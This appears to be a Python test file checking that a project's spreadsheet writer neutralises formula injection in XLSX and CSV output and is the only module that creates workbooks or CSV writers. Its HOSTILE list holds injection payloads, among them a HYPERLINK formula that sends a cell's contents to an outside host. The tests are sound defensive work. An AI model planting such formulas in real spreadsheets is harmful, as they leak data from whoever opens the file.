"""The one spreadsheet writer: formula-like text never comes out as a formula, and CSV
text reads back exactly as it was."""

import ast
import csv
import io
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from casspath.core import spreadsheets

HOSTILE = ['=HYPERLINK("http://x/?"&E2,"y")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
CASSPATH = Path(spreadsheets.__file__).resolve().parent.parent


def _xlsx(write_only: bool) -> bytes:
    workbook = spreadsheets.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("s")
    spreadsheets.append_row(sheet, ["plain", *HOSTILE, 12, None])
    return spreadsheets.xlsx_bytes(workbook)


def test_it_writes_formula_like_text_as_plain_strings_in_xlsx():
    for write_only in (False, True):
        data = _xlsx(write_only)
        sheet = load_workbook(io.BytesIO(data))["s"]
        cells = list(sheet[1])[1 : 1 + len(HOSTILE)]
        # XML reads a bare CR back as LF: the cell's text, not the neutralising, changes.
        as_read = [value.replace("\r", "\n") for value in HOSTILE]
        assert [cell.value for cell in cells] == as_read
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.quotePrefix for cell in cells)
        assert b"<f>" not in _sheet_xml(data)
        rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("s").to_python()
        assert rows[0][1 : 1 + len(HOSTILE)] == as_read


def test_it_neutralises_cells_set_directly_on_a_sheet():
    workbook = spreadsheets.new_workbook()
    workbook.active["B2"] = "=1+1"
    cell = load_workbook(io.BytesIO(spreadsheets.xlsx_bytes(workbook))).active["B2"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_it_quotes_formula_like_text_in_csv():
    data = spreadsheets.csv_bytes([["plain", *HOSTILE, "'=x", "'plain", -5]])
    assert data.startswith("\ufeff".encode())
    row = next(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert row == ["plain", *("'" + value for value in HOSTILE), "''=x", "'plain", "-5"]
    assert [spreadsheets.read_back(cell) for cell in row] == [
        "plain", *HOSTILE, "'=x", "'plain", "-5"]


@given(st.text())
def test_it_reads_back_every_text_it_writes_to_csv(text):
    written = spreadsheets.csv_text(text)
    assert not spreadsheets.is_formula_like(written)
    assert spreadsheets.read_back(written) == text


def _called(func) -> str:
    return func.id if isinstance(func, ast.Name) else getattr(func, "attr", "")


def test_it_is_the_only_module_that_makes_a_workbook_or_a_csv_writer():
    """Every generated spreadsheet goes through the one writer, or it would escape the
    neutralising: no other module makes an openpyxl Workbook or a CSV writer."""
    offenders = []
    for path in CASSPATH.rglob("*.py"):
        if "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and _called(node.func) == "Workbook":
                offenders.append(f"{path.relative_to(CASSPATH)}: Workbook()")
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(CASSPATH)}: csv.{node.attr}")
    assert offenders == []
